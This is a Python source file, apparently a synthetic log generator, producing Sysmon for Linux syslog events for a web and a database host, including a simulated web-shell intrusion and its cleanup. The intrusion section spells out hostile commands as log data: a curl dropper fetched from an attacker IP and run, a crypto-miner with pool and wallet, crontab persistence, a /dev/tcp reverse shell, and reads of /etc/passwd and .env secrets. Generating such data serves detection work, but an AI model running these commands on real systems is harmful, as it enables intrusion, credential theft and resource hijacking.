# the fields an event's schema fills with the same text every time ("-" on Linux)
SM_CONST = {
    "FileVersion": "-",
    "Description": "-",
    "Product": "-",
    "Company": "-",
    "OriginalFileName": "-",
    "IntegrityLevel": "no level",
    "Hashes": "-",
    "SourceHostname": "-",
    "SourcePortName": "-",
    "DestinationHostname": "-",
    "DestinationPortName": "-",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIsIpv6": "false",
    "DestinationIsIpv6": "false",
}


def xml_esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def sysmon_template(eid: int) -> str:
    ver, task, names = SM_EVENTS[eid]
    data = "".join(
        f'<Data Name="{n}">{xml_esc(SM_CONST[n]) if n in SM_CONST else "%s"}</Data>' for n in names
    )
    return f'<Event><System>{SM_PROVIDER}<EventID>{eid}</EventID><Version>{ver}</Version><Level>4</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%s</EventRecordID><Correlation/><Execution ProcessID="%s" ThreadID="%s"/><Channel>Linux-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserId="0"/></System><EventData>{data}</EventData></Event>'


class SmProc:
    def __init__(self, guid: str, pid: int, image: str, cmd: str, user: str, cwd: str) -> None:
        self.guid, self.pid, self.image, self.cmd, self.user, self.cwd = (
            guid,
            pid,
            image,
            cmd,
            user,
            cwd,
        )


def sysmon_linux(r: random.Random) -> list[Log]:
    """Sysmon for Linux 1.3 writing its events to syslog on two hosts (`web01-syslog`, Ubuntu
    22.04's /var/log/syslog; `db01-messages`, RHEL 9's /var/log/messages), one XML event a line
    after `sysmon: `: web01's per-minute Laravel scheduler under cron (ProcessCreate and
    ProcessTerminate, 1,400 of them), logrotate, a deploy at 07:30 (git, composer, artisan, the
    outbound connections), checkout calls to the payment API, and a web shell at 09:41 (php-fpm
    spawning shells, a dropper fetched with curl into /tmp, a reverse shell, a miner in
    /var/tmp/.cache, a crontab), cleaned up by an admin at 10:02 (kill, FileDelete) before the
    Sysmon configuration is replaced and the service restarted at 10:20 (ServiceConfigurationChange,
    ServiceStateChange); db01's replication check every five minutes, the hourly dump shipped to
    S3, and an admin's `fdisk -l` (RawAccessRead)."""
    fs = Files()
    rec = {h: r.randint(120000, 480000) for h in SM_HOSTS}
    nextpid = {"web01": 210400, "db01": 88100}

    def emit(h: str, t: datetime, eid: int, vals: dict[str, str]) -> datetime:
        f, _m, spid = SM_HOSTS[h]
        rec[h] += 1
        n = rec[h]
        ver, task, names = SM_EVENTS[eid]

        def text(x: datetime) -> list[str]:
            v = dict(vals)
            v.setdefault("UtcTime", f"{x:%Y-%m-%d %H:%M:%S}.{x.microsecond // 1000:03d}")
            data = "".join(
                f'<Data Name="{k}">{xml_esc(SM_CONST[k] if k in SM_CONST else v[k])}</Data>'
                for k in names
            )
            st = f"{x:%Y-%m-%dT%H:%M:%S}.{x.microsecond:06d}000Z"
            return [
                f'{syslog_ts(x)} {h} sysmon: <Event><System>{SM_PROVIDER}<EventID>{eid}</EventID><Version>{ver}</Version><Level>4</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{st}"/><EventRecordID>{n}</EventRecordID><Correlation/><Execution ProcessID="{spid}" ThreadID="{spid}"/><Channel>Linux-Sysmon/Operational</Channel><Computer>{h}</Computer><Security UserId="0"/></System><EventData>{data}</EventData></Event>'
            ]

        return fs.add(f, t + sec(r.uniform(0.0, 0.4)), sysmon_template(eid), text, h, 1_000_000)

    def guid(h: str, t: datetime) -> str:
        m = SM_HOSTS[h][1]
        ts = f"{int(t.timestamp()):08x}"
        return "{" + f"{m}-{ts[4:]}-{ts[:4]}-{hexid(r, 4)}-{hexid(r, 12)}" + "}"

    LOGON = {h: "{" + f"{SM_HOSTS[h][1]}-0000-0000-0000-000000000000" + "}" for h in SM_HOSTS}
    CRON = {
        h: SmProc(guid(h, at(0, 0)), p, "/usr/sbin/cron", "/usr/sbin/cron -f -P", "root", "/")
        for h, p in (("web01", 1187), ("db01", 1302))
    }
    FPM = SmProc(
        guid("web01", at(0, 0)), 24410, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", "www-data", "/"
    )
    SSHD = {
        h: SmProc(
            guid(h, at(0, 0)),
            p,
            "/usr/sbin/sshd",
            "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
            "root",
            "/",
        )
        for h, p in (("web01", 977), ("db01", 1120))
    }

    def spawn(
        h: str,
        t: datetime,
        parent: SmProc,
        image: str,
        cmd: str,
        user: str | None = None,
        cwd: str | None = None,
        rule: str = "-",
        session: str = "4294967295",
        logon: str = "0",
    ) -> tuple[SmProc, datetime]:
        nextpid[h] += r.randint(1, 40)
        p = SmProc(guid(h, t), nextpid[h], image, cmd, user or parent.user, cwd or parent.cwd)
        t = emit(
            h,
            t,
            1,
            {
                "RuleName": rule,
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": image,
                "CommandLine": cmd,
                "CurrentDirectory": p.cwd,
                "User": p.user,
                "LogonGuid": LOGON[h],
                "LogonId": logon,
                "TerminalSessionId": session,
                "ParentProcessGuid": parent.guid,
                "ParentProcessId": str(parent.pid),
                "ParentImage": parent.image,
                "ParentCommandLine": parent.cmd,
                "ParentUser": parent.user,
            },
        )
        return p, t

    def end(h: str, t: datetime, p: SmProc, rule: str = "-") -> datetime:
        return emit(
            h,
            t,
            5,
            {
                "RuleName": rule,
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": p.image,
                "User": p.user,
            },
        )

    def connect(
        h: str, t: datetime, p: SmProc, src: str, dst: str, port: int, rule: str = "-"
    ) -> datetime:
        return emit(
            h,
            t,
            3,
            {
                "RuleName": rule,
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": p.image,
                "User": p.user,
                "SourceIp": src,
                "SourcePort": str(r.randint(32768, 60999)),
                "DestinationIp": dst,
                "DestinationPort": str(port),
            },
        )

    def created(h: str, t: datetime, p: SmProc, path: str, rule: str = "-") -> datetime:
        return emit(
            h,
            t,
            11,
            {
                "RuleName": rule,
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "Image": p.image,
                "TargetFilename": path,
                "CreationUtcTime": f"{t:%Y-%m-%d %H:%M:%S}.{r.randint(0, 999):03d}",
                "User": p.user,
            },
        )

    def deleted(h: str, t: datetime, p: SmProc, path: str, rule: str = "-") -> datetime:
        return emit(
            h,
            t,
            23,
            {
                "RuleName": rule,
                "ProcessGuid": p.guid,
                "ProcessId": str(p.pid),
                "User": p.user,
                "Image": p.image,
                "TargetFilename": path,
                "Hashes": "-",
                "IsExecutable": "false",
                "Archived": "false",
            },
        )

    def run(
        h: str,
        t: datetime,
        parent: SmProc,
        steps: list[tuple[str, str]],
        user: str | None = None,
        cwd: str | None = None,
        dur: tuple[float, float] = (0.5, 3),
    ) -> datetime:
        """A shell running its commands one after another."""
        for image, cmd in steps:
            p, t = spawn(h, t, parent, image, cmd, user, cwd)
            t = end(h, t + sec(r.uniform(*dur)), p)
        return t

    WEB_IP, DB_IP = "10.0.5.21", "10.0.5.12"
    # web01: Laravel's scheduler every minute (www-data's crontab)
    for m in range(360):
        t = T0 + sec(60 * m + r.uniform(0.0, 0.3))
        sh, t = spawn(
            "web01",
            t,
            CRON["web01"],
            "/usr/bin/dash",
            "/bin/sh -c cd /var/www/shop && php artisan schedule:run >> /dev/null 2>&1",
            "www-data",
            "/var/www",
        )
        php, t = spawn(
            "web01",
            t,
            sh,
            "/usr/bin/php8.1",
            "php artisan schedule:run",
            "www-data",
            "/var/www/shop",
        )
        dur = r.uniform(0.4, 1.6) if m % 15 else r.uniform(4, 12)
        t = end("web01", t + sec(dur), php)
        end("web01", t, sh)
    # db01: the replication check every five minutes, the hourly dump to S3
    for m in range(0, 360, 5):
        t = T0 + sec(60 * m + 2 + r.uniform(0, 0.4))
        sh, t = spawn(
            "db01",
            t,
            CRON["db01"],
            "/usr/bin/bash",
            "/bin/sh -c /usr/local/bin/check_replication.sh",
            "postgres",
            "/var/lib/pgsql",
        )
        sc, t = spawn(
            "db01",
            t,
            sh,
            "/usr/bin/bash",
            "/bin/bash /usr/local/bin/check_replication.sh",
            "postgres",
        )
        ps, t = spawn(
            "db01",
            t,
            sc,
            "/usr/bin/psql",
            "psql -XAtc SELECT client_addr, state, replay_lag FROM pg_stat_replication",
            "postgres",
        )
        t = end("db01", t + sec(r.uniform(0.05, 0.3)), ps)
        t = end("db01", t, sc)
        end("db01", t, sh)
    for hh in range(6, 12):
        t = at(hh, 15, 1) + sec(r.uniform(0, 0.5))
        sh, t = spawn(
            "db01",
            t,
            CRON["db01"],
            "/usr/bin/bash",
            "/bin/sh -c /usr/local/bin/pg_dump_s3.sh",
            "postgres",
            "/var/lib/pgsql",
        )
        sc, t = spawn(
            "db01", t, sh, "/usr/bin/bash", "/bin/bash /usr/local/bin/pg_dump_s3.sh", "postgres"
        )
        dump, t = spawn(
            "db01",
            t,
            sc,
            "/usr/bin/pg_dump",
            "pg_dump -Fc -f /var/backups/pg/shop-" + f"{t:%Y%m%d%H}" + ".dump shop",
            "postgres",
        )
        t = created(
            "db01", t + sec(r.uniform(0.5, 2)), dump, f"/var/backups/pg/shop-{t:%Y%m%d%H}.dump"
        )
        t = end("db01", t + sec(r.uniform(40, 90)), dump)
        aws, t = spawn(
            "db01",
            t,
            sc,
            "/usr/bin/python3.9",
            f"/usr/bin/python3 /usr/local/bin/aws s3 cp /var/backups/pg/shop-{t:%Y%m%d%H}.dump s3://acme-db-backups/shop/",
            "postgres",
        )
        for _ in range(r.randint(1, 3)):
            t = connect(
                "db01",
                t + sec(r.uniform(0.2, 2)),
                aws,
                DB_IP,
                f"52.219.{r.randint(40, 170)}.{r.randint(2, 250)}",
                443,
            )
        t = end("db01", t + sec(r.uniform(8, 25)), aws)
        rm, t = spawn(
            "db01",
            t,
            sc,
            "/usr/bin/find",
            "find /var/backups/pg -name *.dump -mmin +360 -delete",
            "postgres",
        )
        old = t - timedelta(hours=7)
        t = deleted("db01", t + sec(0.3), rm, f"/var/backups/pg/shop-{old:%Y%m%d%H}.dump")
        t = end("db01", t, rm)
        t = end("db01", t, sc)
        end("db01", t, sh)
    # cron.daily's logrotate on both at 06:25
    for h in ("web01", "db01"):
        t = at(6, 25, 1) + sec(r.uniform(0, 2))
        sh, t = spawn(
            h,
            t,
            CRON[h],
            "/usr/bin/dash" if h == "web01" else "/usr/bin/bash",
            "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "root",
            "/",
        )
        rp, t = spawn(h, t, sh, "/usr/bin/run-parts", "run-parts --report /etc/cron.daily")
        steps = [
            ("/usr/bin/dash", "/bin/sh /etc/cron.daily/apt-compat"),
            ("/usr/bin/dash", "/bin/sh /etc/cron.daily/dpkg"),
            ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
            ("/usr/bin/dash", "/bin/sh /etc/cron.daily/man-db"),
            ("/usr/bin/dash", "/bin/sh /etc/cron.daily/rkhunter"),
        ]
        t = run(h, t, rp, steps, dur=(1, 20))
        t = end(h, t, rp)
        end(h, t, sh)
    # the deploy at 07:30 on web01
    t = at(7, 30, 12)
    sess, t = spawn("web01", t, SSHD["web01"], "/usr/sbin/sshd", "sshd: deploy [priv]", "root", "/")
    bash, t = spawn(
        "web01",
        t + sec(1),
        sess,
        "/usr/bin/bash",
        "bash -c cd /var/www/shop && ./deploy.sh",
        "deploy",
        "/home/deploy",
        session="4",
        logon="1002",
    )
    steps = [
        ("/usr/bin/git", "git fetch --prune origin"),
        ("/usr/bin/git", "git checkout --force v2.41.0"),
        (
            "/usr/bin/php8.1",
            "php /usr/local/bin/composer install --no-dev --optimize-autoloader --no-interaction",
        ),
        ("/usr/bin/php8.1", "php artisan migrate --force"),
        ("/usr/bin/php8.1", "php artisan config:cache"),
        ("/usr/bin/php8.1", "php artisan route:cache"),
        ("/usr/bin/php8.1", "php artisan view:cache"),
        ("/usr/bin/sudo", "sudo /usr/bin/systemctl reload php8.1-fpm"),
    ]
    for image, cmd in steps:
        p, t = spawn(
            "web01", t + sec(r.uniform(0.2, 1)), bash, image, cmd, "deploy", "/var/www/shop"
        )
        if "fetch" in cmd:
            t = connect("web01", t + sec(0.3), p, WEB_IP, "140.82.121.4", 443)
        if "composer" in cmd:
            for ip in ("146.75.119.91", "140.82.121.10", "185.199.110.133", "185.199.110.133"):
                t = connect("web01", t + sec(r.uniform(0.2, 3)), p, WEB_IP, ip, 443)
        if "migrate" in cmd:
            t = connect("web01", t + sec(0.2), p, WEB_IP, DB_IP, 5432)
        if "cache" in cmd:
            t = created(
                "web01",
                t + sec(0.5),
                p,
                "/var/www/shop/bootstrap/cache/" + cmd.split(":")[0].split()[-1] + ".php",
            )
        t = end("web01", t + sec(r.uniform(0.5, 25)), p)
    t = end("web01", t + sec(1), bash)
    end("web01", t + sec(1), sess)
    # checkouts: php-fpm calling the payment API
    for t in poisson(r, at(6, 30), T_END, 260):
        connect(
            "web01",
            t,
            FPM,
            WEB_IP,
            r.choice(["54.187.174.169", "54.187.205.235", "54.241.31.99"]),
            443,
        )
    # 09:41: the web shell
    shell_rule = "TechniqueID=T1059.004,TechniqueName=Command and Scripting Interpreter: Unix Shell"
    t = at(9, 41, 7)
    atk = "198.51.100.23"
    for cmd in ["id", "uname -a", "cat /etc/passwd", "ls -la /var/www/shop/.env"]:
        sh, t = spawn(
            "web01",
            t + sec(r.uniform(4, 30)),
            FPM,
            "/usr/bin/dash",
            f"sh -c {cmd}",
            "www-data",
            "/var/www/shop/public",
            rule=shell_rule,
        )
        tool = cmd.split()[0]
        p, t = spawn("web01", t, sh, f"/usr/bin/{tool}", cmd, "www-data", "/var/www/shop/public")
        t = end("web01", t + sec(0.1), p)
        t = end("web01", t, sh)
    sh, t = spawn(
        "web01",
        t + sec(12),
        FPM,
        "/usr/bin/dash",
        f"sh -c curl -fsSL http://{atk}/k.sh -o /tmp/.k.sh",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    curl, t = spawn(
        "web01",
        t,
        sh,
        "/usr/bin/curl",
        f"curl -fsSL http://{atk}/k.sh -o /tmp/.k.sh",
        "www-data",
        "/var/www/shop/public",
    )
    t = connect(
        "web01",
        t + sec(0.2),
        curl,
        WEB_IP,
        atk,
        80,
        rule="TechniqueID=T1105,TechniqueName=Ingress Tool Transfer",
    )
    t = created(
        "web01",
        t + sec(0.3),
        curl,
        "/tmp/.k.sh",
        rule="TechniqueID=T1105,TechniqueName=Ingress Tool Transfer",
    )
    t = end("web01", t + sec(0.2), curl)
    t = end("web01", t, sh)
    sh, t = spawn(
        "web01",
        t + sec(9),
        FPM,
        "/usr/bin/dash",
        "sh -c chmod +x /tmp/.k.sh && /tmp/.k.sh",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    p, t = spawn(
        "web01", t, sh, "/usr/bin/chmod", "chmod +x /tmp/.k.sh", "www-data", "/var/www/shop/public"
    )
    t = end("web01", t + sec(0.05), p)
    ks, t = spawn(
        "web01",
        t,
        sh,
        "/usr/bin/bash",
        "/bin/bash /tmp/.k.sh",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    p, t = spawn(
        "web01",
        t + sec(0.5),
        ks,
        "/usr/bin/mkdir",
        "mkdir -p /var/tmp/.cache",
        "www-data",
        "/var/www/shop/public",
    )
    t = end("web01", t + sec(0.05), p)
    cu, t = spawn(
        "web01",
        t,
        ks,
        "/usr/bin/curl",
        f"curl -fsSL http://{atk}/xm -o /var/tmp/.cache/kworker",
        "www-data",
        "/var/www/shop/public",
    )
    t = connect(
        "web01",
        t + sec(0.2),
        cu,
        WEB_IP,
        atk,
        80,
        rule="TechniqueID=T1105,TechniqueName=Ingress Tool Transfer",
    )
    t = created(
        "web01",
        t + sec(2),
        cu,
        "/var/tmp/.cache/kworker",
        rule="TechniqueID=T1105,TechniqueName=Ingress Tool Transfer",
    )
    t = end("web01", t + sec(0.5), cu)
    p, t = spawn(
        "web01",
        t,
        ks,
        "/usr/bin/chmod",
        "chmod 755 /var/tmp/.cache/kworker",
        "www-data",
        "/var/www/shop/public",
    )
    t = end("web01", t + sec(0.05), p)
    miner, t = spawn(
        "web01",
        t,
        ks,
        "/var/tmp/.cache/kworker",
        "/var/tmp/.cache/kworker -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SKNu4gWhA2Kz2kxHnn4ZyGyMqrHBZ1YQiVZsM -k --tls -B",
        "www-data",
        "/var/www/shop/public",
        rule="TechniqueID=T1496,TechniqueName=Resource Hijacking",
    )
    t = connect("web01", t + sec(1.5), miner, WEB_IP, "141.94.96.144", 443)
    cr, t = spawn(
        "web01",
        t,
        ks,
        "/usr/bin/crontab",
        "crontab -",
        "www-data",
        "/var/www/shop/public",
        rule="TechniqueID=T1053.003,TechniqueName=Scheduled Task/Job: Cron",
    )
    t = created(
        "web01",
        t + sec(0.1),
        cr,
        "/var/spool/cron/crontabs/tmp.Xq3Lz8",
        rule="TechniqueID=T1053.003,TechniqueName=Scheduled Task/Job: Cron",
    )
    t = end("web01", t + sec(0.1), cr)
    t = deleted("web01", t + sec(0.1), ks, "/tmp/.k.sh")
    t = end("web01", t, ks)
    t = end("web01", t, sh)
    rsh, t = spawn(
        "web01",
        t + sec(25),
        FPM,
        "/usr/bin/dash",
        f"sh -c bash -c 'bash -i >& /dev/tcp/{atk}/4444 0>&1'",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    rb, t = spawn(
        "web01",
        t,
        rsh,
        "/usr/bin/bash",
        f"bash -c bash -i >& /dev/tcp/{atk}/4444 0>&1",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    ib, t = spawn(
        "web01",
        t,
        rb,
        "/usr/bin/bash",
        "bash -i",
        "www-data",
        "/var/www/shop/public",
        rule=shell_rule,
    )
    t = connect(
        "web01",
        t + sec(0.1),
        ib,
        WEB_IP,
        atk,
        4444,
        rule="TechniqueID=T1059.004,TechniqueName=Command and Scripting Interpreter: Unix Shell",
    )
    t = run(
        "web01",
        t + sec(20),
        ib,
        [
            ("/usr/bin/whoami", "whoami"),
            ("/usr/bin/ps", "ps aux"),
            ("/usr/bin/ss", "ss -tlnp"),
            ("/usr/bin/cat", "cat /var/www/shop/.env"),
            ("/usr/bin/find", "find / -perm -4000 -type f"),
        ],
        dur=(1, 15),
    )
    # 10:02: an admin kills it and cleans up
    t = at(10, 2, 33)
    sess, t = spawn(
        "web01", t, SSHD["web01"], "/usr/sbin/sshd", "sshd: lkovacs [priv]", "root", "/"
    )
    ab, t = spawn(
        "web01",
        t + sec(1),
        sess,
        "/usr/bin/bash",
        "-bash",
        "lkovacs",
        "/home/lkovacs",
        session="7",
        logon="1004",
    )
    t = run(
        "web01",
        t + sec(10),
        ab,
        [
            ("/usr/bin/top", "top -b -n 1"),
            ("/usr/bin/ps", "ps -eo pid,user,pcpu,args --sort=-pcpu"),
        ],
        dur=(1, 5),
    )
    su, t = spawn(
        "web01",
        t + sec(15),
        ab,
        "/usr/bin/sudo",
        "sudo -i",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    rb2, t = spawn(
        "web01",
        t + sec(1),
        su,
        "/usr/bin/bash",
        "-bash",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    p, t = spawn(
        "web01",
        t + sec(12),
        rb2,
        "/usr/bin/kill",
        f"kill -9 {miner.pid} {ib.pid} {rb.pid}",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = end("web01", t + sec(0.05), miner)
    t = end("web01", t, ib)
    t = end("web01", t, rb)
    t = end("web01", t, rsh)
    t = end("web01", t, p)
    p, t = spawn(
        "web01",
        t + sec(20),
        rb2,
        "/usr/bin/crontab",
        "crontab -u www-data -l",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = end("web01", t + sec(0.1), p)
    p, t = spawn(
        "web01",
        t + sec(15),
        rb2,
        "/usr/bin/crontab",
        "crontab -u www-data -r",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = deleted("web01", t + sec(0.1), p, "/var/spool/cron/crontabs/www-data")
    t = end("web01", t + sec(0.05), p)
    p, t = spawn(
        "web01",
        t + sec(20),
        rb2,
        "/usr/bin/cp",
        "cp -a /var/tmp/.cache/kworker /root/evidence/kworker",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = created("web01", t + sec(0.2), p, "/root/evidence/kworker")
    t = end("web01", t, p)
    p, t = spawn(
        "web01",
        t + sec(20),
        rb2,
        "/usr/bin/rm",
        "rm -rf /var/tmp/.cache",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = deleted("web01", t + sec(0.1), p, "/var/tmp/.cache/kworker")
    t = end("web01", t, p)
    t = run(
        "web01",
        t + sec(30),
        rb2,
        [
            ("/usr/bin/systemctl", "systemctl restart php8.1-fpm"),
            ("/usr/bin/cp", "cp /root/sysmon-config-v2.xml /opt/sysmon/config.xml"),
        ],
        dur=(1, 4),
    )
    t = at(10, 20, 44)
    sy, t = spawn(
        "web01",
        t,
        rb2,
        "/usr/bin/sysmon",
        "/usr/bin/sysmon -c /opt/sysmon/config.xml",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = emit(
        "web01",
        t + sec(0.5),
        16,
        {
            "Configuration": "/opt/sysmon/config.xml",
            "ConfigurationFileHash": "SHA256=" + hashlib.sha256(b"v2").hexdigest().upper(),
        },
    )
    t = end("web01", t + sec(0.2), sy)
    sc, t = spawn(
        "web01",
        t + sec(40),
        rb2,
        "/usr/bin/systemctl",
        "systemctl restart sysmon",
        "root",
        "/root",
        session="7",
        logon="1004",
    )
    t = emit(
        "web01", t + sec(0.3), 4, {"State": "Stopped", "Version": "1.3.3", "SchemaVersion": "4.81"}
    )
    t = emit(
        "web01", t + sec(1.5), 4, {"State": "Started", "Version": "1.3.3", "SchemaVersion": "4.81"}
    )
    t = end("web01", t + sec(0.2), sc)
    t = end("web01", t + sec(600), rb2)
    t = end("web01", t, su)
    t = end("web01", t + sec(5), ab)
    end("web01", t, sess)
    # db01: an admin checks the disks
    t = at(8, 15, 20)
    sess, t = spawn("db01", t, SSHD["db01"], "/usr/sbin/sshd", "sshd: lkovacs [priv]", "root", "/")
    ab, t = spawn(
        "db01",
        t + sec(1),
        sess,
        "/usr/bin/bash",
        "-bash",
        "lkovacs",
        "/home/lkovacs",
        session="3",
        logon="1004",
    )
    fd, t = spawn(
        "db01",
        t + sec(8),
        ab,
        "/usr/bin/sudo",
        "sudo fdisk -l",
        "root",
        "/home/lkovacs",
        session="3",
        logon="1004",
    )
    fk, t = spawn(
        "db01",
        t,
        fd,
        "/usr/sbin/fdisk",
        "fdisk -l",
        "root",
        "/home/lkovacs",
        session="3",
        logon="1004",
    )
    for dev in ("/dev/nvme0n1", "/dev/nvme1n1", "/dev/dm-0"):
        t = emit(
            "db01",
            t + sec(0.1),
            9,
            {
                "RuleName": "-",
                "ProcessGuid": fk.guid,
                "ProcessId": str(fk.pid),
                "Image": fk.image,
                "Device": dev,
                "User": "root",
            },
        )
    t = end("db01", t + sec(0.1), fk)
    t = end("db01", t, fd)
    t = run(
        "db01",
        t + sec(5),
        ab,
        [("/usr/bin/df", "df -h"), ("/usr/bin/lsblk", "lsblk")],
        dur=(0.1, 1),
    )
    t = end("db01", t + sec(40), ab)
    end("db01", t, sess)
    return fs.logs(T0)


SYSTEMS = {
    "citrix-adc": citrix_adc,
    "huawei-vrp": huawei_vrp,
    "sonic": sonic,
    "rkhunter": rkhunter,
    "sysmon-linux": sysmon_linux,
}

if __name__ == "__main__":
    raise SystemExit(generate(SYSTEMS, sys.argv[1:]))
